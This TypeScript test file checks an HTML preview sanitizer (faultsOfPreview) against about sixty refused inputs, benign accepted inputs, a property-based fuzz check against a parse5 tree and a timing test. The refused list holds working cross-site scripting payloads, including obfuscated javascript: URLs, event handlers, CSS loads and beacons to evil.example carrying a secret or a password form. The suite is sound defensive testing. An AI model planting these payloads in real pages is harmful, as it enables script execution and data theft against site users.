import fc from 'fast-check';
import { parse } from 'parse5';
import { describe, expect, it } from 'vitest';
import { faultsOfPreview } from './preview-fragment.ts';

const refused: [name: string, preview: string][] = [
  ['html', '<html><p>a</p></html>'],
  ['body', '<p>a</p></BODY>'],
  ['body with a handler, which a tree would lose', '<body/onload=alert(1)>'],
  ['head', '<head></head>'],
  ['a doctype', '<!DocType html><p>a'],
  ['script', '<script>alert(1)</script>'],
  ['script in odd writing', '<ScRiPt\n\t/src=//evil.example>'],
  ['script of XHTML', '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'],
  ['the end of a script', 'a</script>b'],
  ['script after a broken comment', '<!--><script>alert(1)</script>-->'],
  ['script behind CDATA, which is a comment here', '<![CDATA[><script>alert(1)</script>]]>'],
  ['script in svg', '<svg><script>alert(1)</script></svg>'],
  ['svg alone', '<svg><path d="M0 0h1"/></svg>'],
  ['svg animation', '<svg><animate attributeName=href values=javascript:alert(1) /></svg>'],
  ['math', '<math><mtext><p><style><img src=x></style></mtext></math>'],
  ['style', '<style>p{color:red}</style>'],
  ['style in a table', '<table><style>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['textarea', '<textarea></textarea>'],
  ['template', '<template shadowrootmode=open><b>a</b></template>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['srcdoc', '<x srcdoc="<script>1</script>">'],
  ['base', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['http-equiv anywhere', '<x http-equiv=refresh>'],
  ['link', '<link rel=stylesheet href=//evil.example/a.css>'],
  ['object', '<object data="data:text/html,<script>1</script>"></object>'],
  ['embed', '<embed src=//evil.example>'],
  ['form', '<form action=https://evil.example><input name=password></form>'],
  ['formaction', '<button formaction=javascript:alert(1)>a</button>'],
  ['a handler', '<p onclick="alert(1)">a</p>'],
  ['a handler in capitals', '<IMG SRC=x ONERROR=alert(1)>'],
  ['a handler after a slash', '<img/src=x/onerror=alert(1)>'],
  ['a handler that HTML does not know', '<p onwhatever=1>'],
  ['a handler of an unknown element', '<thing onclick=alert(1)>'],
  ['a handler in a tag left open', '<img src="data:image/png,a" onerror=alert(1) '],
  ['a handler before a value left open', '<b onfocus=alert(1) title="a'],
  ['a handler before a value left open in single quotes', "<b onfocus=alert(1) title='a"],
  ['a handler after a form feed', '<p\fonclick=alert(1)>'],
  ['javascript:', '<a href="javascript:alert(1)">a</a>'],
  ['javascript: with white space before', '<a href=" \n\u0001javascript:alert(1)">a</a>'],
  ['javascript: with a tab within', '<a href="java\tscript:alert(1)">a</a>'],
  ['javascript: with a line break as an entity', '<a href="java&#10;script&colon;alert(1)">a</a>'],
  ['javascript: as entities without semicolons', '<a href="&#106&#x61vascript:alert(1)">a</a>'],
  ['javascript: in capitals', '<a href=JaVaScRiPt:alert(1)>a</a>'],
  ['javascript: in any attribute', '<div data-link="javascript:alert(1)">a</div>'],
  ['javascript: in any attribute with a tab within', '<div data-link="java\tscript:alert(1)">a</div>'],
  [
    'javascript: in any attribute with white space before',
    '<div data-link=" \u0001javascript:alert(1)">a</div>',
  ],
  ['javascript: with a prefix', '<a xlink:href="javascript:alert(1)">a</a>'],
  ['vbscript:', '<a href="vbscript:msgbox(1)">a</a>'],
  ['data: of HTML', '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>'],
  ['data: of SVG', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['a path of the surface', '<a href="/v1/teams">a</a>'],
  ['an image that tells somebody', '<img src="https://evil.example/?secret=1">'],
  ['a set of images', '<img srcset="https://evil.example/a 1x">'],
  ['a style that loads', '<p style="background:url(https://evil.example/a)">'],
  ['a style that loads by an escape', '<p style="background:u\\72l(https://evil.example/a)">'],
  ['a style that loads by a set', `<p style="background:-webkit-image-set('https://evil.example/a' 1x)">`],
  ['a style that runs', '<p style="width:expression(alert(1))">'],
  ['a link out of the frame', '<a href="https://example.com" target=_top>a</a>'],
];

const taken: [name: string, preview: string][] = [
  ['nothing', ''],
  ['a plain text', 'Two columns, the list on the left.'],
  ['comparisons', 'if (a < b && c > d) return a <= b;'],
  ['type parameters', 'const found: Map<string, number> = await read<Plan>(path);'],
  ['a diagram', '+---+ --> +---+\n| a | <-- | b |'],
  ['escaped code', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['words that are no URL', '<p title="Why JavaScript: a story">javascript:void, onclick=, &lt;body&gt;</p>'],
  ['inline style', '<div style="display:grid;gap:4px;color:#333;scroll-behavior:smooth">a</div>'],
  ['a table', '<table class="t"><tr><th scope=col>a<td colspan=2>b</table>'],
  [
    'controls',
    '<label for=n>Name <input id=n name=n placeholder="Ada"></label><button disabled>Send</button>',
  ],
  [
    'links',
    '<a href="https://example.com/a?b=c">a</a><a href="#b">b</a><a href="mailto:a@example.com">c</a>',
  ],
  ['an image within', '<img alt="a" src="data:image/png;base64,iVBORw0KGgo=">'],
  ['markup within a quoted value', '<p title="</p><script>">a</p>'],
  ['an unfinished tag', '<p>a <b'],
];

describe('a preview', () => {
  it.each(refused)('[PM-61] with %s is refused', (_, preview) => {
    expect(faultsOfPreview(preview)).not.toEqual([]);
  });

  it.each(taken)('[PM-61] with %s is taken', (_, preview) => {
    expect(faultsOfPreview(preview)).toEqual([]);
  });

  it('[PM-61] is told what is wrong with it', () => {
    expect(faultsOfPreview('<!doctype html><script>1</script><p onclick=1 style="a:url(b)">')).toEqual([
      'it has a doctype; send the fragment alone',
      'it has the element <script>',
      'it has an event handler, the attribute onclick of <p>',
      'the attribute style of <p> loads something or hides what it says behind a backslash; plain properties are fine',
    ]);
  });

  it('[PM-61] that is taken makes no element, handler or code in a page, whatever it is made of', () => {
    const pieces = fc.constantFrom(
      ...'< > " \' / = <!-- --> <![CDATA[ ]]> &#106; &Tab; &colon; alert(1) url( javascript: onclick href src'.split(
        ' ',
      ),
      ...'script style body svg math p a img b table title iframe x:script'.split(' '),
      ' ',
      '\n',
      ...refused.map(([, preview]) => preview),
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (chosen) => {
        const preview = chosen.join('');
        if (faultsOfPreview(preview).length === 0) expect(dangersIn(`<div>${preview}</div>`)).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it('[PM-61] of the largest size is judged in no time', () => {
    for (const unit of ['<b a', ' a', '<', '&#', '<!--', 'x<y ', '="'])
      expect(elapsedMs(() => faultsOfPreview(`<p ${unit.repeat(20_000 / unit.length)}`))).toBeLessThan(2000);
    const names = Array.from({ length: 4500 }, (_, at) => at.toString(36)).join(' ');
    expect(elapsedMs(() => faultsOfPreview(`<p ${names}>`))).toBeLessThan(2000);
  });
});

/** What a browser would obey, by a tree and not by tokens, so that the two readings hold each other. */
function dangersIn(page: string): string[] {
  const found: string[] = [];
  const nodes: unknown[] = [parse(page)];
  const own = new Set(['#document', 'html', 'head', 'body']);
  for (let node = nodes.pop(); node; node = nodes.pop()) {
    if (typeof node !== 'object' || node === null) continue;
    if ('childNodes' in node && Array.isArray(node.childNodes)) nodes.push(...node.childNodes);
    const name = 'nodeName' in node ? String(node.nodeName) : '';
    if (
      /^(?:#documentType|script|style|svg|math|iframe|object|embed|base|meta|link|form|template)$/.test(name)
    )
      found.push(name);
    if (!('attrs' in node) || !Array.isArray(node.attrs)) continue;
    if (own.has(name) && node.attrs.length > 0) found.push(`attributes of ${name}`);
    for (const { name: attribute, value } of node.attrs) {
      if (String(attribute).startsWith('on')) found.push(attribute);
      const scheme = URL.canParse(value) ? new URL(value).protocol : '';
      if (scheme === 'javascript:' || scheme === 'vbscript:') found.push(value);
    }
  }
  return found;
}

function elapsedMs(run: () => void): number {
  const began = performance.now();
  run();
  return performance.now() - began;
}
